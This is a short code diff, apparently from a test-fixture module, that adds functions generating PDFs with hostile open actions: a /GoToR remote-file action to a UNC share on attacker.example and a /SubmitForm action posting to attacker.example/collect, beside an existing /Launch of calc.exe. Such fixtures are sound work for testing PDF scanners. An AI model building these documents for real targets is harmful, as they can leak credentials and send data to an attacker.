@@ -39,6 +39,14 @@ def pdf_with_launch_action() -> bytes:
     return _with_open_action("/Launch", "/F", "calc.exe")
 
 
+def pdf_with_remote_file_action() -> bytes:
+    return _with_open_action("/GoToR", "/F", "\\\\attacker.example\\share\\x.pdf")
+
+
+def pdf_with_form_posted_away() -> bytes:
+    return _with_open_action("/SubmitForm", "/F", "https://attacker.example/collect")
+
+
 def _with_open_action(kind: str, key: str, value: str) -> bytes:
     writer = PdfWriter()
     writer.add_blank_page(595, 842)
